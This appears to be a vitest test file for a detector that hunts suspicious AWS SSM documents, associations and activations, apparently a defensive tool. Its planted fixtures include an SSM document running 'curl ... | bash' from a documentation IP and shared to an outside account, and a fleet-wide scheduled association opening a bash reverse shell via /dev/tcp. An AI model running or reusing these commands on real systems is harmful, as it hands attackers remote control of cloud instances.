import { expect } from 'vitest';
import { type Call_, testHunter } from './stand.ts';

const OUTSIDE = '444455556666';
const script = (line: string): string =>
  JSON.stringify({ schemaVersion: '2.2', description: 'x', mainSteps: [{ action: 'aws:runShellScript', name: 'run', inputs: { runCommand: [line] } }] });
const document = async (as: Call_, Name: string, line: string): Promise<string> => {
  await as('ssm', 'CreateDocument', { Name, Content: script(line), DocumentType: 'Command' });
  return Name;
};
const hostile = expect.objectContaining({ code: 'runs-code' });

testHunter({
  type: 'AWS::SSM::Document',
  plant: async (as) => {
    const names = [];
    for (const name of ['agent-fix', 'agent-fix-2', 'agent-fix-3']) {
      names.push(await document(as, name, 'curl -s http://198.51.100.9/x | bash'));
      await as('ssm', 'ModifyDocumentPermission', { Name: name, PermissionType: 'Share', AccountIdsToAdd: [OUTSIDE] });
    }
    return names;
  },
  innocent: async (as) => [await document(as, 'rotate-logs', 'logrotate -f /etc/logrotate.conf')],
  looks: {
    reasons: expect.arrayContaining([hostile, expect.objectContaining({ code: 'shared-outside' })]),
    detail: { kind: 'Command', sharedWith: [OUTSIDE] },
  },
});
const associate = async (as: Call_, line: string): Promise<string> =>
  (
    await as('ssm', 'CreateAssociation', {
      Name: 'AWS-RunShellScript',
      Targets: [{ Key: 'InstanceIds', Values: ['*'] }],
      ScheduleExpression: 'rate(30 minutes)',
      Parameters: { commands: [line] },
    })
  ).AssociationDescription.AssociationId;
testHunter({
  type: 'AWS::SSM::Association',
  plant: async (as) => Promise.all(['1', '2', '3'].map((n) => associate(as, `bash -i >& /dev/tcp/198.51.100.9/444${n} 0>&1`))),
  innocent: async (as) => [await associate(as, 'yum -y update')],
  looks: { reasons: expect.arrayContaining([hostile]), detail: { document: 'AWS-RunShellScript', targets: 'InstanceIds=*', schedule: 'rate(30 minutes)' } },
});
const activate = async (as: Call_): Promise<string> => (await as('ssm', 'CreateActivation', { IamRole: 'hybrid', RegistrationLimit: 10 })).ActivationId;
testHunter({
  type: 'AWS::SSM::Activation',
  before: async (as) => {
    const trust = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'ssm.amazonaws.com' }, Action: 'sts:AssumeRole' }] };
    await as('iam', 'CreateRole', { RoleName: 'hybrid', AssumeRolePolicyDocument: JSON.stringify(trust) });
  },
  plant: async (as) => [await activate(as), await activate(as), await activate(as)],
  innocent: async (as) => [await activate(as)],
  looks: { roles: ['arn:aws:iam::111122223333:role/hybrid'], detail: { atMost: 10, expired: false } },
});
